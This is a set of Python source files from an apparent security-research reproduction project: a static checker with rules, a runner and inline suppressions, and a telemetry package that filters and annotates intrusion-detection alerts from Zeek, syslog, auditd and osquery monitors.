    lowered = name.lower()
    return name in _CLOSE_PATH_EXACT or any(
        fragment in lowered for fragment in _CLOSE_PATH_FRAGMENTS
    )


def _is_owning_creation(module: ModuleModel, node: ast.AST) -> bool:
    """Whether ``node`` is ``SharedMemory(..., create=True)``."""
    if not isinstance(node, ast.Call):
        return False
    name = module.qualified_name(node.func) or module.dotted(node.func) or ""
    if not (name == "SharedMemory" or name.endswith(".SharedMemory")):
        return False
    for keyword in node.keywords:
        if keyword.arg == "create":
            value = keyword.value
            return isinstance(value, ast.Constant) and value.value is True
    return False


def _has_close_path_unlink(scope: ast.AST) -> bool:
    """Whether any close-path function under ``scope`` calls ``.unlink()``."""
    for item in ast.walk(scope):
        if not isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
            continue
        if not _is_close_path(item.name):
            continue
        for node in ast.walk(item):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "unlink"
            ):
                return True
    return False


@register
class ShmLifecycleRule(Rule):
    id = "shm-lifecycle"
    severity = "error"
    description = (
        "SharedMemory(create=True) owners must unlink() the segment on a "
        "close path, or it leaks in /dev/shm"
    )
    paths = ("testbed/",)

    def check(self, module: ModuleModel) -> Iterable[Finding]:
        creations: List[ast.Call] = [
            node
            for node in ast.walk(module.tree)
            if _is_owning_creation(module, node)
        ]
        for creation in creations:
            scope: Optional[ast.AST] = module.enclosing_class(creation)
            if scope is None:
                scope = module.tree  # free function: audit the module
            if _has_close_path_unlink(scope):
                continue
            unit = scope.name if isinstance(scope, ast.ClassDef) else "this module"
            yield self.finding(
                module,
                creation,
                f"SharedMemory segment created with create=True but {unit} "
                "has no close-path method calling unlink(); the owner must "
                "unlink on close or the segment leaks in /dev/shm",
            )
