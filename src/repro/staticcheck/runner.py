"""File discovery, per-module rule execution, suppression accounting.

One :func:`scan_paths` call walks the requested trees, parses each
``.py`` once into a :class:`~repro.staticcheck.walker.ModuleModel`,
runs every applicable rule over it, and splits the raw findings into
*active* (reported) and *suppressed* (matched by a justified inline
suppression).  Two meta findings keep the suppression mechanism itself
honest:

- ``suppression-hygiene`` — a ``disable=`` comment without a
  ``-- reason`` tail (bare suppressions do not suppress);
- ``parse-error`` — a file the checker cannot parse is a finding, not
  a silent skip: unparseable code is unchecked code.
"""

from __future__ import annotations

import dataclasses
import os
from typing import Dict, Iterable, List, Optional, Sequence

from .findings import Finding
from .registry import Rule, all_rules
from .suppressions import SuppressionIndex
from .walker import ModuleModel

#: Rules emitted by the runner itself rather than the registry.
META_RULES = {
    "suppression-hygiene": "suppressions must carry a `-- reason` justification",
    "parse-error": "files the checker cannot parse are unchecked code",
}

_SKIP_DIRS = {"__pycache__", ".git", ".hypothesis", "node_modules"}


@dataclasses.dataclass
class ScanResult:
    """Everything one scan learned, pre-baseline."""

    findings: List[Finding]  # active (unsuppressed), source order
    suppressed: List[Finding]  # matched by a justified suppression
    files_scanned: int
    suppressions_used: int
    suppressions_unused: int
    suppressions_bare: int

    def per_rule(self) -> Dict[str, Dict[str, int]]:
        out: Dict[str, Dict[str, int]] = {}
        for finding in self.findings:
            out.setdefault(finding.rule, {"active": 0, "suppressed": 0})["active"] += 1
        for finding in self.suppressed:
            out.setdefault(finding.rule, {"active": 0, "suppressed": 0})[
                "suppressed"
            ] += 1
        return out

    def stats(self) -> dict:
        return {
            "files_scanned": self.files_scanned,
            "findings_active": len(self.findings),
            "findings_suppressed": len(self.suppressed),
            "per_rule": self.per_rule(),
            "suppressions": {
                "used": self.suppressions_used,
                "unused": self.suppressions_unused,
                "bare": self.suppressions_bare,
            },
        }


def iter_python_files(paths: Sequence[str]) -> Iterable[str]:
    for path in paths:
        if os.path.isfile(path):
            if path.endswith(".py"):
                yield path
            continue
        for root, dirs, files in os.walk(path):
            dirs[:] = sorted(d for d in dirs if d not in _SKIP_DIRS)
            for name in sorted(files):
                if name.endswith(".py"):
                    yield os.path.join(root, name)


def _relpath(path: str, root: Optional[str]) -> str:
    if root:
        try:
            rel = os.path.relpath(path, root)
            if not rel.startswith(".."):
                path = rel
        except ValueError:
            pass
    return path.replace(os.sep, "/")


def scan_source(
    relpath: str,
    source: str,
    rules: Optional[Sequence[Rule]] = None,
) -> ScanResult:
    """Scan one in-memory module (the fixture suite's entry point)."""
    return _scan_modules([(relpath, source)], rules)


def scan_paths(
    paths: Sequence[str],
    rules: Optional[Sequence[Rule]] = None,
    root: Optional[str] = None,
) -> ScanResult:
    modules: List[tuple] = []
    for path in iter_python_files(paths):
        with open(path, "r", encoding="utf-8") as handle:
            source = handle.read()
        modules.append((_relpath(path, root), source))
    return _scan_modules(modules, rules)


def _scan_modules(
    modules: Sequence[tuple],
    rules: Optional[Sequence[Rule]],
) -> ScanResult:
    active_rules = list(rules) if rules is not None else all_rules()
    active: List[Finding] = []
    suppressed: List[Finding] = []
    used = unused = bare = 0
    for relpath, source in modules:
        try:
            module = ModuleModel.parse(relpath, source)
        except SyntaxError as exc:
            active.append(
                Finding(
                    rule="parse-error",
                    severity="error",
                    path=relpath,
                    line=int(exc.lineno or 0),
                    col=int(exc.offset or 0),
                    message=f"cannot parse: {exc.msg}",
                )
            )
            continue
        index = SuppressionIndex.for_source(source)
        raw: List[Finding] = []
        for rule in active_rules:
            if not rule.applies_to(relpath):
                continue
            raw.extend(rule.check(module))
        for finding in sorted(raw, key=Finding.sort_key):
            if index.suppresses(finding.rule, finding.line):
                suppressed.append(finding)
            else:
                active.append(finding)
        for item in index.bare:
            bare += 1
            active.append(
                Finding(
                    rule="suppression-hygiene",
                    severity="warning",
                    path=relpath,
                    line=item.comment_line,
                    col=0,
                    message=(
                        "suppression without a `-- reason` justification "
                        "has no effect; add the reason"
                    ),
                )
            )
        used += len([s for s in index.suppressions if s.used])
        unused += len(index.unused)
    active.sort(key=Finding.sort_key)
    suppressed.sort(key=Finding.sort_key)
    return ScanResult(
        findings=active,
        suppressed=suppressed,
        files_scanned=len(modules),
        suppressions_used=used,
        suppressions_unused=unused,
        suppressions_bare=bare,
    )
