"""Inline suppressions: ``# staticcheck: disable=RULE[,RULE]  -- reason``.

A suppression comment governs the physical line it sits on; a comment
that is alone on its line governs the next line of code instead, so
wide expressions can be suppressed without breaking the line limit:

    crossed = self._watches[k]  # staticcheck: disable=determinism -- drained sorted downstream

    # staticcheck: disable=pickle-safety -- dropped in __getstate__
    self._scratch = open(path, "rb")

``disable=all`` suppresses every rule on the governed line.  The
``-- reason`` tail is **mandatory**: a bare suppression does not
suppress anything and is itself reported by the ``suppression-hygiene``
meta rule, so every silenced finding carries its justification in the
diff that silenced it.

Comments are located with :mod:`tokenize` (never by scanning for ``#``,
which would trip on string literals containing hashes).
"""

from __future__ import annotations

import dataclasses
import io
import re
import tokenize
from typing import Dict, FrozenSet, List, Optional

_PATTERN = re.compile(
    r"#\s*staticcheck:\s*disable=([A-Za-z0-9_,\- ]+?)\s*(?:--\s*(\S.*?)\s*)?$"
)


@dataclasses.dataclass
class Suppression:
    """One parsed suppression comment."""

    comment_line: int  # where the comment physically sits
    governed_line: int  # the code line it applies to
    rules: FrozenSet[str]  # empty frozenset means "all"
    reason: Optional[str]
    used: bool = False

    @property
    def bare(self) -> bool:
        return not self.reason

    def matches(self, rule: str) -> bool:
        return not self.rules or rule in self.rules


def parse_suppressions(source: str) -> List[Suppression]:
    """All suppression comments in a module, with governed lines resolved."""
    comments: List[tokenize.TokenInfo] = []
    # (line, had_code) for every physical line that carries a comment.
    code_on_line: Dict[int, bool] = {}
    try:
        tokens = list(tokenize.generate_tokens(io.StringIO(source).readline))
    except (tokenize.TokenError, IndentationError, SyntaxError):
        return []
    for token in tokens:
        if token.type == tokenize.COMMENT:
            comments.append(token)
        elif token.type not in (
            tokenize.NL,
            tokenize.NEWLINE,
            tokenize.INDENT,
            tokenize.DEDENT,
            tokenize.ENDMARKER,
            tokenize.ENCODING,
        ):
            for line in range(token.start[0], token.end[0] + 1):
                code_on_line[line] = True

    out: List[Suppression] = []
    for token in comments:
        match = _PATTERN.search(token.string)
        if not match:
            continue
        raw_rules = [r.strip() for r in match.group(1).split(",") if r.strip()]
        rules: FrozenSet[str] = (
            frozenset() if "all" in raw_rules else frozenset(raw_rules)
        )
        line = token.start[0]
        governed = line if code_on_line.get(line) else line + 1
        out.append(
            Suppression(
                comment_line=line,
                governed_line=governed,
                rules=rules,
                reason=match.group(2),
            )
        )
    return out


class SuppressionIndex:
    """Lookup of suppressions by governed line, tracking which fired."""

    def __init__(self, suppressions: List[Suppression]) -> None:
        self.suppressions = suppressions
        self._by_line: Dict[int, List[Suppression]] = {}
        for item in suppressions:
            self._by_line.setdefault(item.governed_line, []).append(item)

    @classmethod
    def for_source(cls, source: str) -> "SuppressionIndex":
        return cls(parse_suppressions(source))

    def suppresses(self, rule: str, line: int) -> bool:
        """True (and marks the suppression used) when a justified
        suppression for ``rule`` governs ``line``."""
        for item in self._by_line.get(line, []):
            if item.bare or not item.matches(rule):
                continue
            item.used = True
            return True
        return False

    @property
    def bare(self) -> List[Suppression]:
        return [s for s in self.suppressions if s.bare]

    @property
    def unused(self) -> List[Suppression]:
        return [s for s in self.suppressions if not s.bare and not s.used]
