"""Shared AST module model: parse once, resolve names, walk scopes.

Every rule runs against one :class:`ModuleModel` per file.  The model
owns the parsed tree plus the cross-cutting machinery rules would
otherwise each rebuild:

- **parent links** (``parent_of``) and enclosing function/class lookup;
- **import alias resolution** (``qualified_name``): ``np.random.rand``
  resolves to ``numpy.random.rand`` through ``import numpy as np``,
  ``sleep`` to ``time.sleep`` through ``from time import sleep``;
- **dotted attribute text** (``dotted``): the literal ``self.pipeline
  .submit_alerts`` chain, for rules keyed on attribute shape rather
  than import origin;
- **function table** (``functions``): every ``def``/``async def`` with
  its dotted symbol (``Class.method``), parameter names, and body-local
  bindings (nested defs, lambdas bound to names, local classes) for
  closure/escape analysis.

Relative imports (``from .factor_graph import maxplus_matmul``) resolve
with the leading dots stripped (``factor_graph.maxplus_matmul``); rules
therefore match qualified names by suffix, never by exact package root,
so the same rule fires on fixture snippets and on the real tree.
"""

from __future__ import annotations

import ast
import dataclasses
from typing import Dict, Iterator, List, Optional, Sequence, Tuple

_SCOPE_TYPES = (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)


@dataclasses.dataclass
class FunctionInfo:
    """One ``def``/``async def`` with resolved context."""

    node: ast.AST  # FunctionDef | AsyncFunctionDef
    name: str
    symbol: str  # dotted, e.g. "AttackTagger.observe" or "outer.inner"
    is_async: bool
    params: Tuple[str, ...]
    #: Names bound in this function's body to nested function/class
    #: definitions or lambdas — values that close over local state and
    #: must not cross a process boundary.
    local_callables: Dict[str, ast.AST] = dataclasses.field(default_factory=dict)


def _param_names(node) -> Tuple[str, ...]:
    args = node.args
    every = (
        list(args.posonlyargs)
        + list(args.args)
        + list(args.kwonlyargs)
        + ([args.vararg] if args.vararg else [])
        + ([args.kwarg] if args.kwarg else [])
    )
    return tuple(a.arg for a in every)


class ModuleModel:
    """Parsed module plus shared resolution machinery (see module doc)."""

    def __init__(self, path: str, source: str, tree: ast.Module) -> None:
        self.path = path
        self.source = source
        self.tree = tree
        self._parents: Dict[ast.AST, ast.AST] = {}
        for parent in ast.walk(tree):
            for child in ast.iter_child_nodes(parent):
                self._parents[child] = parent
        self.aliases = self._collect_aliases()
        self._functions = self._collect_functions()

    @classmethod
    def parse(cls, path: str, source: Optional[str] = None) -> "ModuleModel":
        if source is None:
            with open(path, "r", encoding="utf-8") as handle:
                source = handle.read()
        tree = ast.parse(source, filename=path)
        return cls(path, source, tree)

    # -- name resolution ---------------------------------------------------
    def _collect_aliases(self) -> Dict[str, str]:
        aliases: Dict[str, str] = {}
        for node in ast.walk(self.tree):
            if isinstance(node, ast.Import):
                for item in node.names:
                    local = item.asname or item.name.split(".", 1)[0]
                    origin = item.name if item.asname else item.name.split(".", 1)[0]
                    aliases[local] = origin
            elif isinstance(node, ast.ImportFrom):
                base = node.module or ""
                for item in node.names:
                    if item.name == "*":
                        continue
                    local = item.asname or item.name
                    origin = f"{base}.{item.name}" if base else item.name
                    aliases[local] = origin
        return aliases

    def dotted(self, node: ast.AST) -> Optional[str]:
        """The literal attribute chain text, un-aliased (``self.x.y``)."""
        parts: List[str] = []
        while isinstance(node, ast.Attribute):
            parts.append(node.attr)
            node = node.value
        if isinstance(node, ast.Name):
            parts.append(node.id)
            return ".".join(reversed(parts))
        return None

    def qualified_name(self, node: ast.AST) -> Optional[str]:
        """Attribute chain with the base resolved through import aliases."""
        raw = self.dotted(node)
        if raw is None:
            return None
        head, _, rest = raw.partition(".")
        origin = self.aliases.get(head, head)
        return f"{origin}.{rest}" if rest else origin

    def call_name(self, call: ast.Call) -> Optional[str]:
        return self.qualified_name(call.func)

    # -- structure ---------------------------------------------------------
    def parent_of(self, node: ast.AST) -> Optional[ast.AST]:
        return self._parents.get(node)

    def enclosing(self, node: ast.AST, types) -> Optional[ast.AST]:
        current = self._parents.get(node)
        while current is not None:
            if isinstance(current, types):
                return current
            current = self._parents.get(current)
        return None

    def enclosing_class(self, node: ast.AST) -> Optional[ast.ClassDef]:
        return self.enclosing(node, ast.ClassDef)

    def symbol_of(self, node: ast.AST) -> str:
        """Dotted enclosing-scope symbol for a node (may be empty)."""
        parts: List[str] = []
        current: Optional[ast.AST] = node
        while current is not None:
            if isinstance(current, _SCOPE_TYPES):
                parts.append(current.name)
            current = self._parents.get(current)
        return ".".join(reversed(parts))

    def _collect_functions(self) -> List[FunctionInfo]:
        out: List[FunctionInfo] = []
        for node in ast.walk(self.tree):
            if not isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                continue
            info = FunctionInfo(
                node=node,
                name=node.name,
                symbol=self.symbol_of(node),
                is_async=isinstance(node, ast.AsyncFunctionDef),
                params=_param_names(node),
                local_callables=self._local_callables(node),
            )
            out.append(info)
        out.sort(key=lambda f: (f.node.lineno, f.node.col_offset))
        return out

    def _local_callables(self, func: ast.AST) -> Dict[str, ast.AST]:
        bindings: Dict[str, ast.AST] = {}
        for child in ast.iter_child_nodes(func):
            for node in ast.walk(child):
                if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                    if self.enclosing(node, (ast.FunctionDef, ast.AsyncFunctionDef)) is func:
                        bindings[node.name] = node
                elif isinstance(node, ast.Assign) and isinstance(node.value, ast.Lambda):
                    if self.enclosing(node, (ast.FunctionDef, ast.AsyncFunctionDef)) is not func:
                        continue
                    for target in node.targets:
                        if isinstance(target, ast.Name):
                            bindings[target.id] = node.value
        return bindings

    def functions(self) -> Sequence[FunctionInfo]:
        return self._functions

    def function_body_nodes(self, func: ast.AST, *, skip_nested: bool = True) -> Iterator[ast.AST]:
        """Walk a function body, optionally skipping nested def/class scopes.

        With ``skip_nested`` (the default for execution-context rules
        like asyncio-blocking), statements inside nested ``def``s are
        not yielded: they run when the nested function is *called*, not
        while this body executes.  Each nested function is analysed
        independently via :meth:`functions`.
        """
        stack: List[ast.AST] = []
        for child in ast.iter_child_nodes(func):
            stack.append(child)
        while stack:
            node = stack.pop()
            if skip_nested and isinstance(node, _SCOPE_TYPES + (ast.Lambda,)):
                continue
            yield node
            for child in ast.iter_child_nodes(node):
                stack.append(child)

    def iter_calls(self, root: Optional[ast.AST] = None) -> Iterator[ast.Call]:
        for node in ast.walk(root if root is not None else self.tree):
            if isinstance(node, ast.Call):
                yield node
