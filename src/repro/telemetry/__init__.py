"""Telemetry substrate: monitors, normalisation, filtering, annotation.

Models the monitoring stack the paper's testbed relies on -- a Zeek
network-monitor cluster plus per-host rsyslog, auditd and osquery --
and the preprocessing pipeline that turns raw records into the
symbolic, sanitised, filtered and annotated alerts the detection models
consume.
"""

from .annotator import (
    AnnotatedAlert,
    AnnotationLabel,
    AnnotationMethod,
    AnnotationStats,
    ExpertPanel,
    GroundTruthAnnotator,
)
from .auditd import AuditdMonitor, AuditRecord
from .filtering import FilterStats, ScanFilter, ScanFilterStage, filter_alerts
from .logsource import LogSource, MonitorKind, RawLogRecord, anonymize_ip, merge_records
from .normalizer import (
    AlertNormalizer,
    KNOWN_C2_PREFIXES,
    NormalizationRule,
    NormalizerStage,
    ZEEK_NOTICE_MAP,
)
from .osquery import OsqueryMonitor, OsqueryResult
from .sanitizer import SanitizationReport, Sanitizer
from .syslog import SyslogMessage, SyslogMonitor
from .zeek import (
    ConnRecord,
    NoticeRecord,
    ZeekMonitor,
    parse_conn_log,
    parse_notice_log,
    write_conn_log,
    write_notice_log,
)

__all__ = [
    "MonitorKind",
    "RawLogRecord",
    "LogSource",
    "merge_records",
    "anonymize_ip",
    "ConnRecord",
    "NoticeRecord",
    "ZeekMonitor",
    "write_conn_log",
    "parse_conn_log",
    "write_notice_log",
    "parse_notice_log",
    "SyslogMessage",
    "SyslogMonitor",
    "AuditRecord",
    "AuditdMonitor",
    "OsqueryResult",
    "OsqueryMonitor",
    "AlertNormalizer",
    "NormalizerStage",
    "NormalizationRule",
    "ZEEK_NOTICE_MAP",
    "KNOWN_C2_PREFIXES",
    "Sanitizer",
    "SanitizationReport",
    "ScanFilter",
    "ScanFilterStage",
    "FilterStats",
    "filter_alerts",
    "GroundTruthAnnotator",
    "ExpertPanel",
    "AnnotatedAlert",
    "AnnotationLabel",
    "AnnotationMethod",
    "AnnotationStats",
]
