"""Ground-truth annotation of filtered alerts.

The paper annotates the 191 K filtered alerts with attack states:
99.7 % automatically (the alert is either clearly benign, e.g. a normal
login, or clearly malicious, e.g. installation of a binary present in a
malware database) and the remaining 0.3 % -- alerts that appear in both
attack and legitimate activity -- by consulting security experts.

:class:`GroundTruthAnnotator` reproduces that workflow:

* automatic annotation from the alert vocabulary (stage/criticality)
  and from the incident ground truth (is the alert's entity named in a
  forensic report?),
* an *ambiguity rule*: alert types observed under both attack and
  benign entities within the same corpus are routed to an expert queue,
* an :class:`ExpertPanel` abstraction that resolves the queue (the
  default panel applies the incident ground truth, mimicking perfectly
  reliable experts; tests exercise unreliable panels too).
"""

from __future__ import annotations

import dataclasses
import enum
from collections import defaultdict
from typing import Callable, Iterable, Mapping, Optional, Sequence

from ..core.alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from ..core.states import AttackStage, HiddenState, STAGE_STATE_PRIOR


class AnnotationLabel(enum.Enum):
    """Ground-truth label attached to one alert."""

    BENIGN = "benign"
    MALICIOUS = "malicious"


class AnnotationMethod(enum.Enum):
    """How a label was obtained."""

    AUTOMATIC = "automatic"
    EXPERT = "expert"


@dataclasses.dataclass(frozen=True)
class AnnotatedAlert:
    """An alert together with its ground-truth label."""

    alert: Alert
    label: AnnotationLabel
    method: AnnotationMethod
    hidden_state: HiddenState


@dataclasses.dataclass
class AnnotationStats:
    """Summary of an annotation run (reproduces the 99.7 % / 0.3 % split)."""

    total: int = 0
    automatic: int = 0
    expert: int = 0

    @property
    def automatic_fraction(self) -> float:
        """Fraction of alerts annotated automatically."""
        return self.automatic / self.total if self.total else 0.0

    @property
    def expert_fraction(self) -> float:
        """Fraction of alerts requiring expert annotation."""
        return self.expert / self.total if self.total else 0.0


class ExpertPanel:
    """Resolves ambiguous alerts.

    The default panel is a stand-in for NCSA's security experts: it
    labels an ambiguous alert malicious exactly when the alert's entity
    is named in the supplied ground-truth entity set.  A custom
    ``decide`` callable can model imperfect annotators.
    """

    def __init__(
        self,
        attack_entities: Iterable[str] = (),
        *,
        decide: Optional[Callable[[Alert], AnnotationLabel]] = None,
    ) -> None:
        self.attack_entities = set(attack_entities)
        self._decide = decide

    def label(self, alert: Alert) -> AnnotationLabel:
        """Label one ambiguous alert."""
        if self._decide is not None:
            return self._decide(alert)
        if alert.entity in self.attack_entities:
            return AnnotationLabel.MALICIOUS
        return AnnotationLabel.BENIGN


class GroundTruthAnnotator:
    """Automatic + expert annotation of filtered alert streams."""

    def __init__(
        self,
        vocabulary: Optional[AlertVocabulary] = None,
        *,
        ambiguous_alert_names: Optional[set[str]] = None,
    ) -> None:
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        # Alert types that legitimately occur in both attack and benign
        # activity; if not given explicitly they are inferred per corpus.
        self.ambiguous_alert_names = ambiguous_alert_names
        self.stats = AnnotationStats()

    # ------------------------------------------------------------------
    def infer_ambiguous_names(
        self, alerts: Sequence[Alert], attack_entities: set[str]
    ) -> set[str]:
        """Alert types seen under both attack and non-attack entities."""
        seen_attack: set[str] = set()
        seen_benign: set[str] = set()
        for alert in alerts:
            if alert.entity in attack_entities:
                seen_attack.add(alert.name)
            else:
                seen_benign.add(alert.name)
        return seen_attack & seen_benign

    def _automatic_label(
        self, alert: Alert, attack_entities: set[str]
    ) -> Optional[AnnotationLabel]:
        """Automatic label, or ``None`` when the alert is ambiguous."""
        spec = self.vocabulary.get(alert.name)
        ambiguous = self.ambiguous_alert_names or set()
        if alert.name in ambiguous:
            return None
        if spec.critical:
            return AnnotationLabel.MALICIOUS
        if spec.stage is AttackStage.BACKGROUND:
            return AnnotationLabel.BENIGN
        # Unambiguous attack-stage alerts follow the entity's ground truth:
        # they are malicious when raised by an entity named in an incident.
        if alert.entity in attack_entities:
            return AnnotationLabel.MALICIOUS
        return AnnotationLabel.BENIGN

    def annotate(
        self,
        alerts: Sequence[Alert],
        attack_entities: Iterable[str],
        *,
        panel: Optional[ExpertPanel] = None,
    ) -> list[AnnotatedAlert]:
        """Annotate a filtered alert stream against incident ground truth."""
        attack_entities = set(attack_entities)
        if self.ambiguous_alert_names is None:
            self.ambiguous_alert_names = self.infer_ambiguous_names(alerts, attack_entities)
        panel = panel or ExpertPanel(attack_entities)
        self.stats = AnnotationStats(total=len(alerts))
        annotated: list[AnnotatedAlert] = []
        for alert in alerts:
            label = self._automatic_label(alert, attack_entities)
            if label is None:
                label = panel.label(alert)
                method = AnnotationMethod.EXPERT
                self.stats.expert += 1
            else:
                method = AnnotationMethod.AUTOMATIC
                self.stats.automatic += 1
            if label is AnnotationLabel.MALICIOUS:
                state = STAGE_STATE_PRIOR[self.vocabulary.get(alert.name).stage]
                if state is HiddenState.BENIGN:
                    state = HiddenState.SUSPICIOUS
            else:
                state = HiddenState.BENIGN
            annotated.append(
                AnnotatedAlert(alert=alert, label=label, method=method, hidden_state=state)
            )
        return annotated

    # ------------------------------------------------------------------
    @staticmethod
    def label_summary(annotated: Sequence[AnnotatedAlert]) -> Mapping[str, int]:
        """Counts per (label, method) combination."""
        counts: dict[str, int] = defaultdict(int)
        for item in annotated:
            counts[f"{item.label.value}:{item.method.value}"] += 1
        return dict(counts)


__all__ = [
    "AnnotationLabel",
    "AnnotationMethod",
    "AnnotatedAlert",
    "AnnotationStats",
    "ExpertPanel",
    "GroundTruthAnnotator",
]
