"""Scan filtering: the 25 M -> 191 K alert reduction of Table I.

Most of the alert volume at a supercomputing centre is repeated port
and vulnerability scanning from the public Internet (roughly 80 K of
the 94 K daily alerts, per Insight 3).  Those alerts are not evidence
that any particular entity is compromised; the paper filters them out
before building and evaluating detection models.  This module
implements that filter as a composable set of stages:

* **Deduplication** of identical (source, alert type, target) tuples
  inside a sliding window -- repeated probes collapse to one alert.
* **Scanner suppression** -- sources that only ever produce
  reconnaissance-stage alerts across many distinct targets are mass
  scanners; their alerts are dropped entirely (they remain visible to
  the black-hole router, which is the component that handles them).
* **Benign-entity suppression** (optional) -- entities whose alerts are
  all benign-category can be dropped when preparing model training
  data.

The filter reports how many alerts each stage removed so the Table I
reduction factor can be reproduced and audited.
"""

from __future__ import annotations

import dataclasses
from collections import defaultdict
from typing import Iterable, Optional, Sequence

from ..core.alerts import Alert, AlertCategory, AlertVocabulary, DEFAULT_VOCABULARY
from ..core.states import AttackStage


@dataclasses.dataclass
class FilterStats:
    """Bookkeeping of how many alerts each stage removed."""

    input_alerts: int = 0
    deduplicated: int = 0
    scanner_suppressed: int = 0
    benign_suppressed: int = 0
    output_alerts: int = 0

    @property
    def reduction_factor(self) -> float:
        """Input-to-output volume ratio.

        An empty input is no reduction (1.0); a filter that drops
        *every* alert is an infinite reduction, kept distinguishable
        from "no reduction" by reporting ``float("inf")``.
        """
        if self.input_alerts == 0:
            return 1.0
        if self.output_alerts == 0:
            return float("inf")
        return self.input_alerts / self.output_alerts


class ScanFilter:
    """Stateful alert filter reproducing the paper's volume reduction."""

    def __init__(
        self,
        vocabulary: Optional[AlertVocabulary] = None,
        *,
        dedup_window_seconds: float = 3600.0,
        scanner_min_targets: int = 10,
        suppress_benign_entities: bool = False,
    ) -> None:
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        self.dedup_window_seconds = float(dedup_window_seconds)
        self.scanner_min_targets = int(scanner_min_targets)
        self.suppress_benign_entities = bool(suppress_benign_entities)
        self.stats = FilterStats()

    # -- scanner identification -------------------------------------------
    def identify_scanners(self, alerts: Sequence[Alert]) -> set[str]:
        """Source IPs that behave like mass scanners.

        A source is a scanner when every alert it produced is a
        reconnaissance-stage alert and it touched at least
        ``scanner_min_targets`` distinct targets (hosts).
        """
        stages_by_source: dict[str, set[AttackStage]] = defaultdict(set)
        targets_by_source: dict[str, set[str]] = defaultdict(set)
        for alert in alerts:
            if not alert.source_ip:
                continue
            stages_by_source[alert.source_ip].add(self.vocabulary.get(alert.name).stage)
            targets_by_source[alert.source_ip].add(alert.host or alert.entity)
        scanners = set()
        for source, stages in stages_by_source.items():
            if stages <= {AttackStage.RECONNAISSANCE, AttackStage.BACKGROUND} and len(
                targets_by_source[source]
            ) >= self.scanner_min_targets:
                scanners.add(source)
        return scanners

    # -- main entry point ------------------------------------------------------
    def filter(self, alerts: Iterable[Alert]) -> list[Alert]:
        """Apply all stages and return the surviving alerts (time order kept)."""
        alerts = sorted(alerts, key=lambda a: a.timestamp)
        self.stats = FilterStats(input_alerts=len(alerts))
        scanners = self.identify_scanners(alerts)

        survivors: list[Alert] = []
        last_seen: dict[tuple[str, str, str], float] = {}
        for alert in alerts:
            # Stage 1: mass-scanner suppression.
            if alert.source_ip in scanners:
                self.stats.scanner_suppressed += 1
                continue
            # Stage 2: sliding-window deduplication.
            key = (alert.source_ip or alert.entity, alert.name, alert.host)
            previous = last_seen.get(key)
            if previous is not None and alert.timestamp - previous <= self.dedup_window_seconds:
                self.stats.deduplicated += 1
                continue
            last_seen[key] = alert.timestamp
            survivors.append(alert)

        # Stage 3 (optional): drop entities that never left benign alerts.
        if self.suppress_benign_entities:
            by_entity: dict[str, list[Alert]] = defaultdict(list)
            for alert in survivors:
                by_entity[alert.entity].append(alert)
            kept: list[Alert] = []
            for entity_alerts in by_entity.values():
                categories = {self.vocabulary.get(a.name).category for a in entity_alerts}
                if categories <= {AlertCategory.BENIGN}:
                    self.stats.benign_suppressed += len(entity_alerts)
                    continue
                kept.extend(entity_alerts)
            survivors = sorted(kept, key=lambda a: a.timestamp)

        self.stats.output_alerts = len(survivors)
        return survivors


class ScanFilterStage:
    """Batch pipeline-stage adapter over :class:`ScanFilter`.

    Implements the staged-pipeline contract
    (:class:`repro.testbed.stages.PipelineStage`, matched structurally
    so the telemetry layer carries no testbed import): a batch of
    alerts in, the time-ordered survivors out.
    """

    name = "filter"

    def __init__(self, scan_filter: ScanFilter) -> None:
        self.scan_filter = scan_filter

    def process(self, batch: Iterable[Alert]) -> list[Alert]:
        """Filter one alert batch (scanner suppression + dedup)."""
        return self.scan_filter.filter(batch)


def filter_alerts(
    alerts: Iterable[Alert],
    vocabulary: Optional[AlertVocabulary] = None,
    **kwargs,
) -> tuple[list[Alert], FilterStats]:
    """One-shot convenience wrapper returning (survivors, stats)."""
    scan_filter = ScanFilter(vocabulary, **kwargs)
    survivors = scan_filter.filter(alerts)
    return survivors, scan_filter.stats


__all__ = ["FilterStats", "ScanFilter", "ScanFilterStage", "filter_alerts"]
