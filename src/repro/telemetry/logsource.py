"""Base types shared by all monitor log models.

Every monitor in the testbed (Zeek network security monitors, rsyslog,
auditd, osquery) produces *raw log records*.  The telemetry pipeline
normalises those records into the symbolic :class:`repro.core.alerts
.Alert` representation the detectors consume.  This module defines the
common raw-record shape and the registry of monitors.
"""

from __future__ import annotations

import dataclasses
import enum
from typing import Any, Iterable, Iterator, Mapping, Optional


class MonitorKind(enum.Enum):
    """The monitor families deployed on the testbed."""

    ZEEK = "zeek"
    SYSLOG = "syslog"
    AUDITD = "auditd"
    OSQUERY = "osquery"


@dataclasses.dataclass(frozen=True)
class RawLogRecord:
    """One raw log record as emitted by a monitor.

    Attributes
    ----------
    timestamp:
        POSIX timestamp of the record.
    monitor:
        Which monitor family produced it.
    host:
        Host on which (or about which) the record was produced.
    message:
        The raw, single-line textual form of the record.
    fields:
        Structured fields parsed from / used to render the message.
    """

    timestamp: float
    monitor: MonitorKind
    host: str
    message: str
    fields: Mapping[str, Any] = dataclasses.field(default_factory=dict)

    def field(self, key: str, default: Any = None) -> Any:
        """Convenience accessor for a structured field."""
        return self.fields.get(key, default)


class LogSource:
    """Base class for monitor models.

    A log source can *render* structured events into raw records (used
    by the attack emulator and the honeypot services) and *parse* raw
    lines back into records (used by the replay engine).  Subclasses
    implement the format specifics.
    """

    kind: MonitorKind

    def __init__(self, host: str) -> None:
        self.host = host
        self._records: list[RawLogRecord] = []

    # -- emission ---------------------------------------------------------
    def emit(self, record: RawLogRecord) -> RawLogRecord:
        """Append a record to this source's buffer and return it."""
        if record.monitor is not self.kind:
            raise ValueError(
                f"{type(self).__name__} cannot emit records of monitor {record.monitor}"
            )
        self._records.append(record)
        return record

    def extend(self, records: Iterable[RawLogRecord]) -> None:
        """Emit many records."""
        for record in records:
            self.emit(record)

    # -- access ------------------------------------------------------------
    @property
    def records(self) -> list[RawLogRecord]:
        """All records emitted so far (time order is the caller's duty)."""
        return list(self._records)

    def __len__(self) -> int:
        return len(self._records)

